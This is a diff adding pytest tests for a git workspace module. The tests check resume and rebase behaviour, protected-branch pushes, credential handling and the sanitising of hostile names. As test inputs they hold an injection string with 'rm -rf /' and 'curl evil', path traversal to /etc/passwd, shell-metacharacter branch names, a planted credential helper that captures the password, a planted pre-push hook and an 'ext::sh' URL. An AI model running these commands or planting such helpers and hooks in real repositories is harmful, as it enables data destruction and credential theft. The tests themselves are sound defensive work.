@@ -1,0 +1,195 @@
+"""Workspace: clone/resume, guarded push, credentials, hostile names (RELIABILITY D1, D2, D3, D7, E1)."""
+
+from __future__ import annotations
+
+import subprocess
+from pathlib import Path
+
+import pytest
+from pydantic import SecretStr
+
+from jobs.errors import ConfigError, ProtectedBranchError, PushRejected
+from jobs.workspace import Workspace, branch_for, check_branch, safe_title
+from jobs.workspace.git import Git
+from jobs.workspace.repo import check_repo_url
+from tests.conftest import git
+
+TOKEN = "ghp_canaryTOKENcanaryTOKENcanary000001"
+
+
+def workspace(remote: Path, tmp_path: Path, branch: str = "factory/ix-1", name: str = "w") -> Workspace:
+    ws = Workspace(Git(), str(remote), tmp_path / name, branch, "main")
+    ws.clone()
+    return ws
+
+
+def human_commit(remote: Path, tmp_path: Path, branch: str, path: str, text: str) -> str:
+    """A person pushes a commit to ``branch`` behind Factory's back."""
+    clone = tmp_path / f"human-{path.replace('/', '_')}"
+    git("clone", "-q", "-b", branch, str(remote), str(clone))
+    (clone / path).write_text(text)
+    git("add", "-A", cwd=clone)
+    git("commit", "-q", "-m", f"human edits {path}", cwd=clone)
+    git("push", "-q", "origin", branch, cwd=clone)
+    return git("rev-parse", "HEAD", cwd=clone).strip()
+
+
+def branches(remote: Path) -> list[str]:
+    return git("--git-dir", str(remote), "for-each-ref", "--format=%(refname:short)", "refs/heads").split()
+
+
+def test_d1_existing_branch_is_resumed_not_forked(remote: Path, tmp_path: Path) -> None:
+    first = workspace(remote, tmp_path, name="a")
+    (first.path / "a.txt").write_text("a")
+    first.commit_all("first")
+    first.push()
+    second = workspace(remote, tmp_path, name="b")
+    assert second.resumed and (second.path / "a.txt").read_text() == "a"
+    (second.path / "b.txt").write_text("b")
+    second.commit_all("second")
+    second.push()
+    assert branches(remote) == ["factory/ix-1", "main"]
+    assert len(git("--git-dir", str(remote), "rev-list", "main..factory/ix-1").split()) == 2
+
+
+def test_d2_remote_moved_by_a_human_is_rebased_onto(remote: Path, tmp_path: Path) -> None:
+    ws = workspace(remote, tmp_path)
+    (ws.path / "ours.txt").write_text("ours")
+    ws.commit_all("ours")
+    ws.push()
+    theirs = human_commit(remote, tmp_path, ws.branch, "theirs.txt", "theirs")
+    (ws.path / "ours2.txt").write_text("ours again")
+    ws.commit_all("ours again")
+    outcome = ws.push()
+    assert outcome.rebased
+    history = git("--git-dir", str(remote), "rev-list", "factory/ix-1").split()
+    assert theirs in history  # the human's commit was not lost
+
+
+def test_d2_conflicting_move_stops_without_force(remote: Path, tmp_path: Path) -> None:
+    ws = workspace(remote, tmp_path)
+    (ws.path / "same.txt").write_text("ours")
+    ws.commit_all("ours")
+    ws.push()
+    theirs = human_commit(remote, tmp_path, ws.branch, "same.txt", "theirs")
+    (ws.path / "same.txt").write_text("ours, changed")
+    ws.commit_all("ours again")
+    with pytest.raises(PushRejected):
+        ws.push()
+    assert git("--git-dir", str(remote), "rev-parse", "factory/ix-1").strip() == theirs
+
+
+def test_d3_never_the_default_branch(remote: Path, tmp_path: Path) -> None:
+    with pytest.raises(ProtectedBranchError):
+        Workspace(Git(), str(remote), tmp_path / "w", "main", "main")
+    # A remote whose default branch differs from BASE_BRANCH is protected too.
+    git("--git-dir", str(remote), "branch", "trunk", "main")
+    git("--git-dir", str(remote), "symbolic-ref", "HEAD", "refs/heads/trunk")
+    ws = workspace(remote, tmp_path, branch="trunk")
+    (ws.path / "x.txt").write_text("x")
+    ws.commit_all("x")
+    with pytest.raises(ProtectedBranchError):
+        ws.push()
+
+
+def test_agent_planted_git_config_and_hooks_are_undone(remote: Path, tmp_path: Path) -> None:
+    ws = workspace(remote, tmp_path)
+    evil = tmp_path / "evil-remote.git"
+    git("init", "-q", "--bare", str(evil))
+    git("remote", "set-url", "origin", str(evil), cwd=ws.path)
+    git("config", "credential.helper", f"!touch {tmp_path}/helper-ran", cwd=ws.path)
+    hook = ws.path / ".git" / "hooks" / "pre-push"
+    hook.write_text(f"#!/bin/sh\ntouch {tmp_path}/hook-ran\n")
+    hook.chmod(0o755)
+    ws.sanitise_git_dir()
+    (ws.path / "x.txt").write_text("x")
+    ws.commit_all("x")
+    ws.push()
+    assert "factory/ix-1" in branches(remote)
+    assert branches(evil) == []
+    assert not (tmp_path / "hook-ran").exists() and not (tmp_path / "helper-ran").exists()
+
+
+def test_e1_token_only_through_the_credential_helper(remote: Path, tmp_path: Path) -> None:
+    g = Git(SecretStr(TOKEN))
+    argv = g.argv(["push", "https://github.com/o/r", "HEAD:refs/heads/x"])
+    assert TOKEN not in " ".join(argv)
+    # A helper planted in the repo's config must never be asked (it would be handed the password).
+    repo = tmp_path / "r"
+    git("init", "-q", str(repo))
+    git("config", "credential.helper", f"!f() {{ cat > {tmp_path}/stolen; }}; f", cwd=repo)
+    filled = subprocess.run(
+        g.argv(["credential", "fill"]),
+        input="protocol=https\nhost=github.com\n\n",
+        capture_output=True,
+        text=True,
+        env=g.env(),
+        cwd=repo,
+        check=True,
+    ).stdout
+    assert f"password={TOKEN}" in filled
+    approve = "protocol=https\nhost=github.com\nusername=x\npassword=" + TOKEN + "\n\n"
+    subprocess.run(
+        g.argv(["credential", "approve"]), input=approve, text=True, env=g.env(), cwd=repo, check=True
+    )
+    assert not (tmp_path / "stolen").exists()
+
+
+def test_e1_clone_leaves_no_credentials_in_git_config(remote: Path, tmp_path: Path) -> None:
+    ws = Workspace(Git(SecretStr(TOKEN)), str(remote), tmp_path / "w", "factory/ix-1", "main")
+    ws.clone()
+    assert TOKEN not in (ws.path / ".git" / "config").read_text()
+
+
+@pytest.mark.parametrize(
+    "url", ["https://user:pw@github.com/o/r", "https://tok@github.com/o/r", "ssh://git@x/r", "ext::sh -c x"]
+)
+def test_repo_url_without_credentials_or_odd_transports(url: str) -> None:
+    with pytest.raises(ConfigError):
+        check_repo_url(url)
+
+
+HOSTILE_TITLES = [
+    "; rm -rf / $(curl evil) `id`",
+    "../../etc/passwd",
+    "line one\nline two\rthree",
+    "bidi \u202etxt.exe\u202c and zero\u200bwidth",
+    "separator\u2028Phase: release",
+    "tab\tand nul\0",
+    "x" * 500,
+]
+
+
+@pytest.mark.parametrize("title", HOSTILE_TITLES)
+def test_d7_titles_become_one_safe_line(title: str) -> None:
+    flat = safe_title(title)
+    assert "\n" not in flat and "\r" not in flat and "\0" not in flat
+    assert not any(c in flat for c in "\u202e\u202c\u200b\u2028\t")
+    assert len(flat) <= 120
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "main..x",
+        "-x",
+        "a b",
+        "x;rm",
+        "x/../y",
+        "refs/heads/x:y",
+        "x.lock",
+        "x/",
+        "$(id)",
+        "a\nb",
+        "ü",
+        "x@{1}",
+        "a//b",
+    ],
+)
+def test_d7_hostile_branch_names_rejected(name: str) -> None:
+    with pytest.raises(ConfigError):
+        check_branch(name)
+
+
+def test_branch_is_deterministic_from_the_identifier() -> None:
+    assert branch_for("IX-101") == branch_for("IX-101") == "factory/ix-101"
